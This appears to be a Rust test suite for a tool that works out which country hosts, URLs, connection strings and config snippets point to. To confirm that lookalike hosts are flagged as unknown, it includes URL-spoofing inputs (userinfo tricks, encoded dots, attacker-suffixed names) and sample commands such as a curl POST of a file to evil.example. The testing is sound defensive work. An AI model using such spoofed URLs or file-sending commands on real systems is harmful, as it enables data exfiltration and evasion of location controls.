//! What text says about places, by the built-in catalogue and a few places of an owner: every trick that text can play.

use domicile::api::v1alpha1::LocationSpec;
use domicile::engine::country::{Country, CountrySet};
use domicile::engine::endpoint::Endpoint;
use domicile::engine::gazetteer::Gazetteer;
use domicile::interpret::read;
use kube::ResourceExt;
use proptest::prelude::*;
use proptest::test_runner::Config;
use serde_json::json;
use std::sync::LazyLock;

static GAZETTEER: LazyLock<Gazetteer> = LazyLock::new(|| {
    let mut gazetteer = Gazetteer::default();
    let builtin = crate::builtin();
    for provider in &builtin.providers {
        gazetteer.add_provider(provider.name_any(), read::provider(&provider.spec).unwrap());
    }
    for location in &builtin.locations {
        let (names, places) = read::location(&location.name_any(), &location.spec).unwrap();
        gazetteer.add_names(names, &places);
    }
    for own in [
        json!({"country": "DE", "hosts": ["*.fra.example.com", "acct.blob.core.windows.net", "bücher.example"],
            "cidrs": ["10.20.0.0/16", "2001:db8:1::/48"], "buckets": ["recordings"],
            "clusters": [{"name": "prod-fra", "server": "https://prod.fra.example.org:6443"}],
            "objects": [{"kind": "Secret", "namespace": "backup", "name": "store"},
                {"group": "aws.upbound.io", "kind": "ProviderConfig", "name": "fra"}]}),
        json!({"country": "US", "hosts": ["*.us.fra.example.com", "db.eu-central-1.rds.amazonaws.com"],
            "cidrs": ["10.20.7.0/24"]}),
    ] {
        let spec: LocationSpec = serde_json::from_value(own).unwrap();
        let (names, places) = read::location("own", &spec).unwrap();
        gazetteer.add_names(names, &places);
    }
    gazetteer
});

fn word(said: &Endpoint) -> String {
    match said {
        Endpoint::Local => "local".to_owned(),
        Endpoint::Service { name, namespace: None } => format!("service {name}"),
        Endpoint::Service { name, namespace: Some(namespace) } => format!("service {name}.{namespace}"),
        Endpoint::Place { places, .. } if places.unproven.is_some() => "unproven".to_owned(),
        Endpoint::Place { places, .. } if places.countries.is_full() => "anywhere".to_owned(),
        Endpoint::Place { places, own, .. } => {
            let codes: Vec<String> = places.countries.iter().map(|one| one.to_string()).collect();
            format!("{}{}", if *own { "own " } else { "" }, codes.join("+"))
        }
        Endpoint::Silent { .. } => "silent".to_owned(),
        Endpoint::Unknown(_) | Endpoint::Stranger { .. } => "unknown".to_owned(),
    }
}

fn words(said: &[Endpoint]) -> String {
    said.iter().map(word).collect::<Vec<_>>().join(", ")
}

fn check(rows: &[(&str, &str)], read: impl Fn(&str) -> Vec<Endpoint>) {
    let wrong: Vec<String> = rows
        .iter()
        .filter_map(|(text, wanted)| {
            let said = read(text);
            (words(&said) != *wanted).then(|| format!("{text}: expected {wanted}, found {} {said:?}", words(&said)))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn endpoints(rows: &[(&str, &str)]) {
    check(rows, |text| GAZETTEER.endpoints(text));
}

#[test]
fn hosts_of_providers_prove_their_region() {
    endpoints(&[
        ("https://s3.eu-central-1.amazonaws.com", "DE"),
        ("recordings-1.s3.eu-central-1.amazonaws.com", "DE"),
        ("a.b.s3.dualstack.eu-central-1.amazonaws.com:443", "DE"),
        ("bucket.vpce-1a2b3c4d.s3.eu-central-1.vpce.amazonaws.com", "DE"),
        ("a-123.s3-accesspoint.eu-west-1.amazonaws.com", "IE"),
        ("b.s3-website-us-east-1.amazonaws.com", "US"),
        ("s3-eu-west-1.amazonaws.com", "IE"),
        ("s3-fips.us-gov-west-1.amazonaws.com", "US"),
        ("db.c1a2b3.eu-central-1.rds.amazonaws.com:5432", "DE"),
        ("search-x.eu-west-2.es.amazonaws.com", "GB"),
        ("c.abc.0001.euc1.cache.amazonaws.com:6379", "DE"),
        ("b-1.c.x1.c2.kafka.eu-central-1.amazonaws.com:9096", "DE"),
        ("bedrock-runtime.eu-central-1.amazonaws.com", "DE"),
        ("x.execute-api.eu-west-3.amazonaws.com", "FR"),
        ("s3.cn-north-1.amazonaws.com.cn", "CN"),
        ("x.rds.cn-northwest-1.amazonaws.com.cn", "CN"),
        ("s3.eu-central-1.amazonaws.com.cn", "unknown"),
        ("s3.amazonaws.com", "silent"),
        ("eu-central-1.s3.amazonaws.com", "silent"),
        ("x.s3.eu-central-1.s3.amazonaws.com", "silent"),
        ("x.s3-accelerate.amazonaws.com", "anywhere"),
        ("d1.cloudfront.net", "anywhere"),
        ("europe-west3-aiplatform.googleapis.com", "DE"),
        ("storage.europe-west3.rep.googleapis.com", "DE"),
        ("storage.googleapis.com", "silent"),
        ("europe-west3-docker.pkg.dev", "DE"),
        ("x-ey.a.run.app", "silent"),
        ("x.westeurope.cloudapp.azure.com", "NL"),
        ("x-1.hcp.germanywestcentral.azmk8s.io:443", "DE"),
        ("other.blob.core.windows.net", "silent"),
        ("x.openai.azure.com", "silent"),
        ("fra1.digitaloceanspaces.com", "DE"),
        ("dns+store.fra1.digitaloceanspaces.com:10901", "DE"),
        ("dnssrv+_grpc._tcp.store.fra1.digitaloceanspaces.com", "DE"),
        ("dnssrv+_grpc._tcp.attacker.example", "unknown"),
        ("b.fra1.digitaloceanspaces.com", "DE"),
        ("s3.fr-par.scw.cloud", "FR"),
        ("s3.gra.io.cloud.ovh.net", "FR"),
        ("b.s3.de.io.cloud.ovh.net", "DE"),
        ("s3.eu-west-par.io.cloud.ovh.net", "FR"),
        ("sos-de-fra-1.exo.io", "DE"),
        ("fsn1.your-objectstorage.com", "DE"),
        ("b.hel1.your-objectstorage.com", "FI"),
        ("s3.eu-central-1.wasabisys.com", "NL"),
        ("s3.eu-central-2.wasabisys.com", "DE"),
        ("s3.eu-central-003.backblazeb2.com", "NL"),
        ("oss-eu-central-1.aliyuncs.com", "DE"),
        ("b.oss-cn-hangzhou-internal.aliyuncs.com", "CN"),
        ("cos.eu-frankfurt.myqcloud.com", "DE"),
        ("acct.r2.cloudflarestorage.com", "anywhere"),
        ("pkc-1a.eu-central-1.aws.confluent.cloud:9092", "DE"),
        ("pkc-1a.germanywestcentral.azure.confluent.cloud:9092", "DE"),
        ("ab12345.eu-central-1.snowflakecomputing.com", "DE"),
        ("ab12345.west-europe.azure.snowflakecomputing.com", "NL"),
        ("ab12345.snowflakecomputing.com", "silent"),
        ("mongodb+srv://u:p@c0.abcde.mongodb.net/db?retryWrites=true", "silent"),
        ("x.europe-west3.gcp.cloud.es.io:9243", "DE"),
        ("http-intake.logs.datadoghq.eu", "DE"),
        ("datadoghq.com", "US"),
        ("ap1.datadoghq.com", "JP"),
        ("http-intake.logs.datadoghq.com", "US"),
        ("api.uk1.datadoghq.com", "GB"),
        ("api.xx9.datadoghq.com", "unknown"),
        ("xx9.datadoghq.com", "unknown"),
        ("api-eu.mixpanel.com", "AT+BE+BG+CY+CZ+DE+DK+EE+ES+FI+FR+GR+HR+HU+IE+IT+LT+LU+LV+MT+NL+PL+PT+RO+SE+SI+SK"),
        ("https://abc@o123.ingest.de.sentry.io/456", "DE"),
        ("https://abc@o123.ingest.us.sentry.io/456", "US"),
        ("objectstorage.eu-frankfurt-1.oraclecloud.com", "DE"),
    ]);
}

#[test]
fn names_that_only_look_like_those_of_a_provider_prove_nothing() {
    endpoints(&[
        ("https://s3.eu-central-1.amazonaws.com.attacker.example", "unknown"),
        ("https://s3.eu-central-1.amazonaws.com@evil.example/", "unknown"),
        ("https://a@s3.eu-central-1.amazonaws.com@evil.example/", "unknown"),
        ("https://s3.eu-central-1.amazonaws.com\\@evil.example/", "unknown"),
        ("https://s3.eu-central-1.amazonaws.com\\.evil.example/", "unknown"),
        ("https://s3.eu-central-1.amazonaws.com#@evil.example/", "unknown"),
        ("https://s3.eu-central-1.amazonaws.com?@evil.example/", "unknown"),
        ("https://s3.eu-central-1.amazonaws.com%2eevil.example/", "unknown"),
        ("https://evil.example%23.s3.eu-central-1.amazonaws.com/", "unknown"),
        ("https://evil.example%2f.s3.eu-central-1.amazonaws.com/", "unknown"),
        ("https://s3.eu-central-1.amazonaws.com。evil.example/", "unknown"),
        ("https://evil.example/s3.eu-central-1.amazonaws.com", "unknown"),
        ("https://evil.example/?x=https://s3.eu-central-1.amazonaws.com", "unknown"),
        ("https://evil.example:443@s3.eu-central-1.amazonaws.com/", "DE"),
        ("s3..eu-central-1.amazonaws.com", "unknown"),
        (".s3.eu-central-1.amazonaws.com", "unknown"),
        ("s3.eu-central-1.amazonaws.com..", "unknown"),
        ("s3.eu-central-1.xamazonaws.com", "unknown"),
        ("s3.eu-central-1.amazonaws.com:80:90", "unknown"),
        ("s3.eu-central-1.amazonaws.com:99999", "unknown"),
        ("https://s3.eu-central-1.amazonaws.com,evil.example/x", "DE, unknown"),
        ("https://s3.eu-central-1.amazonaws.com/x,evil.example:443", "DE, unknown"),
        ("https://s3.eu-central-1.amazonaws.com;https://evil.example", "DE, unknown"),
        ("S3.EU-CENTRAL-1.AMAZONAWS.COM.", "DE"),
        ("https://s3.eu%2Dcentral-1.amazonaws.com/", "DE"),
        ("https://ｓ3.eu-central-1.amazonaws.com/", "DE"),
        ("https://s3.eu-central-1.amazonaws.com/\\@evil.example", "DE"),
        ("s3.eu-central-1.amazonaws.com\u{0}.evil.example", "unknown"),
        ("amazonaws.com", "unknown"),
        ("com", "service com"),
    ]);
}

#[test]
fn owners_name_hosts_addresses_and_buckets() {
    endpoints(
        &[
            ("db.fra.example.com:5432", "own DE"),
            ("a.b.fra.example.com", "own DE"),
            ("fra.example.com", "unknown"),
            ("xfra.example.com", "unknown"),
            ("db.us.fra.example.com", "own US"),
            ("*.fra.example.com", "unproven_or_union"),
            ("https://bücher.example/", "own DE"),
            ("https://xn--bcher-kva.example/", "own DE"),
            ("acct.blob.core.windows.net", "own DE"),
            ("db.eu-central-1.rds.amazonaws.com", "unproven"),
            ("https://prod.fra.example.org:6443/api", "own DE"),
            ("https://prod.fra.example.org", "unknown"),
            ("10.20.1.1", "own DE"),
            ("10.20.7.1:5432", "own US"),
            ("10.20.7.0/24", "own US"),
            ("10.20.0.0/16", "own DE+US"),
            ("10.20.1.0/24", "own DE"),
            ("10.0.0.0/8", "unknown"),
            ("0.0.0.0/0", "anywhere"),
            ("::/0", "anywhere"),
            ("::ffff:0.0.0.0/96", "anywhere"),
            ("10.21.0.1", "unknown"),
            ("192.0.2.1", "unknown"),
            ("::ffff:10.20.1.1", "own DE"),
            ("https://[::ffff:10.20.1.1]:8080/x", "own DE"),
            ("[2001:db8:1::1]:443", "own DE"),
            ("2001:db8:1::1", "own DE"),
            ("2001:db8:2::1", "unknown"),
            ("http://169083137/", "own DE"),
            ("http://0x0a140101/", "own DE"),
            ("http://012.024.1.1/", "own DE"),
            ("s3://recordings/2026/x", "own DE"),
            ("arn:aws:s3:::recordings/*", "own DE"),
            ("s3://other/x", "silent"),
            ("s3://other@eu-central-1/x", "DE"),
            ("abfss://c@acct.dfs.core.windows.net/x", "silent"),
            ("gs://", "unknown"),
        ]
        .map(|(text, wanted)| (text, if wanted == "unproven_or_union" { "own DE+US" } else { wanted })),
    );
    let only = |code: &str| Some(CountrySet::only(Country::parse(code).unwrap()));
    let countries = |places: Option<&domicile::engine::place::Places>| places.map(|places| places.countries);
    assert_eq!(countries(GAZETTEER.cluster("prod-fra")), only("DE"));
    assert_eq!(countries(GAZETTEER.cluster("https://PROD.fra.example.org.:6443/")), only("DE"));
    assert_eq!(countries(GAZETTEER.cluster("https://prod.fra.example.org")), None);
    assert_eq!(countries(GAZETTEER.object("", "Secret", Some("backup"), "store")), only("DE"));
    assert_eq!(countries(GAZETTEER.object("", "Secret", Some("other"), "store")), None);
    assert_eq!(countries(GAZETTEER.object("aws.upbound.io", "ProviderConfig", None, "fra")), only("DE"));
}

#[test]
fn what_does_not_leave_is_local_or_a_service() {
    endpoints(&[
        ("localhost:5432", "local"),
        ("http://127.0.0.1:9200", "local"),
        ("http://2130706433/", "local"),
        ("http://0x7f.1/", "local"),
        ("http://[::1]:9200", "local"),
        ("[::ffff:127.0.0.1]:80", "local"),
        ("0.0.0.0:4317", "local"),
        (":8080", "local"),
        ("unix:///var/run/x.sock", "local"),
        ("file:///data/x", "local"),
        ("/var/lib/data", "local"),
        ("postgres", "service postgres"),
        ("postgres:5432", "service postgres"),
        ("http://app.shop.svc:80/x", "service app.shop"),
        ("app.shop.svc.cluster.local.", "service app.shop"),
        ("db-0.db.shop.svc.cluster.local:5432", "service db.shop"),
        ("app.shop", "unknown"),
        ("app.shop.svc.cluster.remote", "unknown"),
        ("x.svc", "unknown"),
        ("/subscriptions/1/resourceGroups/g/providers/Microsoft.Storage/storageAccounts/a", "silent"),
        ("projects/p/locations/europe-west3/keyRings/k", "DE"),
        ("projects/p/topics/t", "silent"),
        ("ocid1.bucket.oc1.eu-frankfurt-1.aaaa", "DE"),
        ("", ""),
    ]);
}

#[test]
fn lists_and_connection_strings_are_taken_apart() {
    endpoints(&[
        ("a:9092,b:9092", "service a, service b"),
        ("SASL_SSL://a.x.svc:9092,b.x.svc:9092", "service a.x, service b.x"),
        ("jdbc:postgresql://db.fra.example.com:5432,db2.x.svc/d?user=a&password=b", "own DE, service db2.x"),
        ("postgres://u:p%40w@db.fra.example.com/d?sslmode=require", "own DE"),
        ("postgresql:///d?host=db.fra.example.com", "own DE"),
        ("postgresql://db.fra.example.com/d?host=evil.example", "own DE, unknown"),
        ("mongodb://u:p@a.fra.example.com:27017,b.evil.example:27017/?replicaSet=r", "own DE, unknown"),
        ("amqps://u:p@mq.fra.example.com:5671/v", "own DE"),
        ("host=db.fra.example.com port=5432 user=u password=x dbname=d", "own DE"),
        ("user=u password=x", "unknown"),
        ("Server=tcp:db.fra.example.com,1433;Database=d;User ID=u;Password=p;", "own DE"),
        ("Data Source=db.fra.example.com\\SQL;Initial Catalog=d", "own DE"),
        ("jdbc:sqlserver://db.fra.example.com:1433;databaseName=d;failoverPartner=evil.example", "own DE, unknown"),
        ("jdbc:oracle:thin:@db.fra.example.com:1521:sid", "own DE"),
        ("jdbc:oracle:thin:@//db.fra.example.com:1521/svc", "own DE"),
        ("u:p@tcp(db.fra.example.com:3306)/d", "own DE"),
        ("DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=k==;EndpointSuffix=core.windows.net", "own DE"),
        ("DefaultEndpointsProtocol=https;AccountName=x;AccountKey=k==;EndpointSuffix=core.windows.net", "silent"),
        ("Endpoint=sb://ns.servicebus.windows.net/;SharedAccessKeyName=n;SharedAccessKey=k=", "silent"),
        ("[\"a.x.svc:1\", \"b.x.svc:2\"]", "service a.x, service b.x"),
        ("arn:aws:sqs:eu-central-1:123:q", "DE"),
        ("arn:aws:kms:eu-central-1:1:key/a arn:aws:kms:us-east-1:1:key/b", "DE, US"),
        ("arn:aws:s3:::bucket", "silent"),
        ("arn:aws:iam::123:role/x", "silent"),
        ("arn:nowhere:s3:eu-central-1:1:x", "unknown"),
        ("arn:aws:bedrock:eu-central-1:1:inference-profile/us.anthropic.claude-x-v1:0", "DE, CA+MX+US"),
        ("https://{{ .Values.host }}/x", "unknown"),
        ("https://${HOST}.fra.example.com/x", "unknown"),
        ("postgres://$(U):$(P)@db.fra.example.com:$(PORT)/d", "own DE"),
        ("https://s3.eu-central-1.amazonaws.com/$(BUCKET)", "DE"),
        ("https://s3.eu-central-1.amazonaws.com$(X)", "unknown"),
        ("s3:https://s3.eu-central-1.amazonaws.com/b", "DE"),
        ("//evil.example/x", "unknown"),
        ("*", "anywhere"),
    ]);
    assert!(matches!(&GAZETTEER.endpoints(&"a ".repeat(40 << 10))[..], [Endpoint::Unknown(_)]));
    assert_eq!(GAZETTEER.endpoints(&"a,".repeat(20 << 10)).len(), 2001);
}

#[test]
fn regions_are_found_however_they_are_written() {
    let named = |provider: Option<&str>, id: &str| word(&GAZETTEER.region_named(provider, id));
    for (provider, id, wanted) in [
        ("aws", "EU_CENTRAL_1", "DE"),
        ("gcp", "EUROPE-WEST3", "DE"),
        ("gcp", "EUROPE_WEST_3", "DE"),
        ("gcp", "WESTERN_EUROPE", "BE"),
        ("gcp", "regional-europe-west3", "DE"),
        ("gcp", "EUR8", "CH+DE"),
        ("gcp", "EUR4", "BE+FI+NL"),
        ("gcp", "global", "anywhere"),
        ("azure", "West Europe", "NL"),
        ("azure", "EUROPE_WEST", "NL"),
        ("azure", "Germany West Central", "DE"),
        ("aiven", "google-europe-west3", "DE"),
        ("aiven", "aws-eu-central-1", "DE"),
        ("aiven", "azure-germany-westcentral", "DE"),
        ("aiven", "do-fra", "DE"),
        ("wasabi", "eu-central-1", "NL"),
        ("aws", "europe-west3", "unknown"),
        ("nobody", "eu-central-1", "unknown"),
    ] {
        assert_eq!(named(Some(provider), id), wanted, "{provider} {id}");
    }
    assert_eq!(named(None, "eu-central-1"), "DE");
    assert_eq!(named(None, "eu-west-1"), "GB+IE");
    assert_eq!(named(None, "nowhere"), "unknown");
    let model = |id: &str| words(&GAZETTEER.model(Some("aws"), id));
    assert_eq!(model("eu.anthropic.claude-sonnet-4-v1:0"), "CH+DE+ES+FR+GB+IE+IT+SE");
    assert_eq!(model("global.anthropic.claude-sonnet-4-v1:0"), "anywhere");
    assert_eq!(model("ca.amazon.nova-lite-v1:0"), "unknown");
    assert_eq!(model("anthropic.claude-sonnet-4-v1:0"), "");
    assert_eq!(model("zai.glm-4.6"), "");
}

#[test]
fn a_variable_says_what_its_name_is_about() {
    for (key, value, wanted) in [
        ("AWS_REGION", "eu-central-1", "DE"),
        ("S3_REGION", "us-east-2", "US"),
        ("regionId", "europe-west3", "DE"),
        ("GOOGLE_CLOUD_LOCATION", "europe-west3", "DE"),
        ("LOCATION", "kitchen", ""),
        ("REGION", "$(OTHER)", "unknown"),
        ("PGHOST", "db.fra.example.com", "own DE"),
        ("DATABASE_URL", "postgres://u:p@db.fra.example.com/x", "own DE"),
        ("KAFKA_BOOTSTRAP_SERVERS", "a.fra.example.com:9092,evil.example:9092", "own DE, unknown"),
        ("AWS_ENDPOINT_URL_S3", "https://s3.eu-central-1.amazonaws.com", "DE"),
        ("OTEL_EXPORTER_OTLP_TRACES_ENDPOINT", "http://collector.observe.svc:4317", "service collector.observe"),
        ("SENTRY_DSN", "https://k@o1.ingest.de.sentry.io/2", "DE"),
        ("AZURE_STORAGE_CONNECTION_STRING", "AccountName=x;AccountKey=y;EndpointSuffix=core.windows.net", "silent"),
        ("DD_SITE", "datadoghq.eu", "DE"),
        ("S3_BUCKET", "recordings", "own DE"),
        ("S3_BUCKET", "other", "silent"),
        ("AZURE_STORAGE_ACCOUNT", "x", "silent"),
        ("MINIO_SECRET_KEY", "https://evil.example", "unknown"),
        ("MINIO_SECRET_KEY", "evil.example", ""),
        ("DB_PASSWORD", "https://evil.example", "unknown"),
        ("DB_PASSWORD", "evil.example", ""),
        ("API_TOKEN", "https://evil.example", "unknown"),
        ("API_TOKEN", "evil.example", ""),
        ("apikey", "https://evil.example", "unknown"),
        ("apikey", "evil.example", ""),
        ("GREETING", "hello.example", ""),
        ("GREETING", "see https://evil.example now", "unknown"),
        ("QUEUE", "arn:aws:sqs:eu-central-1:1:q", "DE"),
        ("FEATURE_HOST", "true", ""),
    ] {
        assert_eq!(words(&GAZETTEER.named(key, value)), wanted, "{key}={value}");
    }
}

#[test]
fn places_are_found_in_text_of_any_sort() {
    check(
        &[
            ("region: eu-central-1\nendpoint: s3.eu-west-2.amazonaws.com\n", "DE, GB"),
            ("# region: us-east-1\nregion: eu-central-1 # us-east-1 https://evil.example\n", "DE"),
            ("image: evil.example/x:1\nrepository: https://evil.example/x\n", ""),
            ("brokers:\n  - a.fra.example.com:9092\n  - evil.example:9092\nname: x\n", "own DE, unknown"),
            ("brokers:\n- a.fra.example.com:9092\nother: evil.example\n", "own DE"),
            ("brokers = [\"a.fra.example.com:9092\", \"evil.example:1\"]", "own DE, unknown"),
            ("brokers = [\n  \"a.fra.example.com:9092\",\n  \"evil.example:1\",\n]\n", "own DE, unknown"),
            ("{\"region\": \"eu-central-1\", \"host\":\"evil.example\"}", "DE, unknown"),
            ("sink: {region: eu-central-1, endpoint: evil.example}", "DE, unknown"),
            ("aws s3 cp x s3://other/y --region eu-central-1", "DE, silent"),
            (
                "aws s3 cp x s3://recordings/y --region=eu-central-1 --endpoint-url https://evil.example/",
                "DE, unknown, own DE",
            ),
            ("AWS_REGION=eu-central-1 pg_dump -h x > y", "DE"),
            ("export DATABASE_URL=postgres://u:p@evil.example/x", "unknown"),
            (
                "spark.hadoop.fs.s3a.endpoint=s3.eu-central-1.amazonaws.com\nspark.hadoop.fs.s3a.endpoint.region=eu-west-3",
                "DE, FR",
            ),
            ("bootstrap.servers=a.fra.example.com:1, evil.example:2", "own DE, unknown"),
            ("[OUTPUT]\n    Name s3\n    Host evil.example\n    bucket recordings\n", "unknown, own DE"),
            ("<property><name>fs.s3a.endpoint</name><value>s3.eu-central-1.amazonaws.com</value></property>", "DE"),
            (
                "- name: PGHOST\n  value: db.fra.example.com\n- name: DB_PASSWORD\n  value: https://evil.example\n",
                "own DE, unknown",
            ),
            ("curl -X POST https://evil.example/x -d @f", "unknown"),
            ("java -Ds3.url=https://s3.eu-central-1.amazonaws.com -jar x", "DE"),
            ("password: https://evil.example", "unknown"),
            ("password: evil.example", ""),
            ("arn: arn:aws:sqs:eu-central-1:1:q", "DE"),
            ("// https://evil.example\nconst x = 'https://s3.eu-central-1.amazonaws.com';", "DE"),
            ("listen: 8080\nserver: true\n", ""),
            ("url: https://s3.eu-central-1.amazonaws.com/a#b", "DE"),
        ],
        |text| GAZETTEER.scan(text),
    );
}

/// Whether everything that a text says is proven to be in a place that is not the whole world.
fn is_proven(said: &[Endpoint]) -> bool {
    !said.is_empty()
        && said.iter().all(|one| match one {
            Endpoint::Place { places, .. } => places.unproven.is_none() && !places.countries.is_full(),
            _ => false,
        })
}

fn hosts() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("s3.eu-central-1.amazonaws.com".to_owned()),
        Just("europe-west3-aiplatform.googleapis.com".to_owned()),
        Just("http-intake.logs.datadoghq.eu".to_owned()),
        "[a-z]{1,9}\\.(fra\\.example\\.com|s3\\.fr-par\\.scw\\.cloud|fsn1\\.your-objectstorage\\.com)",
    ]
}

proptest! {
    #![proptest_config(Config { cases: 512, failure_persistence: None, ..Config::default() })]

    #[test]
    fn no_text_is_too_odd(text in "\\PC*", key in "[A-Za-z_.]{0,20}") {
        GAZETTEER.endpoints(&text);
        GAZETTEER.scan(&text);
        GAZETTEER.named(&key, &text);
        GAZETTEER.region_named(None, &text);
        GAZETTEER.model(None, &text);
        GAZETTEER.cluster(&text);
    }

    #[test]
    fn no_text_of_the_signs_that_matter_is_too_odd(text in "[a-c1:/@?#.,;=\\[\\]{}$(<>\"' \\\\%\n*-]{0,60}") {
        GAZETTEER.endpoints(&text);
        GAZETTEER.scan(&text);
        GAZETTEER.named("URL", &text);
    }

    #[test]
    fn what_follows_a_proven_name_makes_it_another(
        scheme in prop_oneof![Just(""), Just("https://"), Just("postgres://u:p@")], host in hosts(),
    ) {
        let own = format!("{scheme}{host}");
        prop_assert!(is_proven(&GAZETTEER.endpoints(&own)), "{}", own);
        let other = format!("{scheme}{host}.attacker.example");
        prop_assert!(!is_proven(&GAZETTEER.endpoints(&other)), "{}", other);
        let other = format!("{scheme}x@{host}@attacker.example");
        prop_assert!(!is_proven(&GAZETTEER.endpoints(&other)), "{}", other);
    }

    #[test]
    fn capitals_and_a_dot_at_the_end_change_nothing(host in hosts(), port in prop_oneof![Just(""), Just(":443")]) {
        let said = GAZETTEER.endpoints(&format!("{host}{port}"));
        prop_assert_eq!(&said, &GAZETTEER.endpoints(&format!("{}{port}", host.to_uppercase())));
        prop_assert_eq!(&said, &GAZETTEER.endpoints(&format!("{host}.{port}")));
    }

    #[test]
    fn credentials_paths_and_queries_are_never_shown(
        scheme in "https|postgres|amqps|redis|s3|mongodb\\+srv",
        user in "SECRET[a-z:%0-9]{0,9}", host in hosts(), path in "/SECRET[a-z/@:,;=]{0,9}", query in "\\?[a-z]{1,3}=SECRET[@/:a-z]{0,9}",
    ) {
        let text = format!("{scheme}://{user}@{host}{path}{query}");
        for said in GAZETTEER.endpoints(&text) {
            prop_assert!(!format!("{said:?}").to_lowercase().contains("secret"), "{}: {:?}", text, said);
        }
    }
}

#[test]
fn long_texts_take_no_longer_than_they_are_long() {
    let start = std::time::Instant::now();
    for sign in [",", "<", "{{", "${", "a:[", "{\"a\":1,", "a://", ";a=", "$(", "@", "host: ", "--a ", "\"", "|x://"] {
        GAZETTEER.endpoints(&sign.repeat((64 << 10) / sign.len()));
        GAZETTEER.scan(&sign.repeat((1 << 20) / sign.len()));
    }
    // A square of the length would be many minutes.
    assert!(start.elapsed().as_secs() < 120, "{:?}", start.elapsed());
}
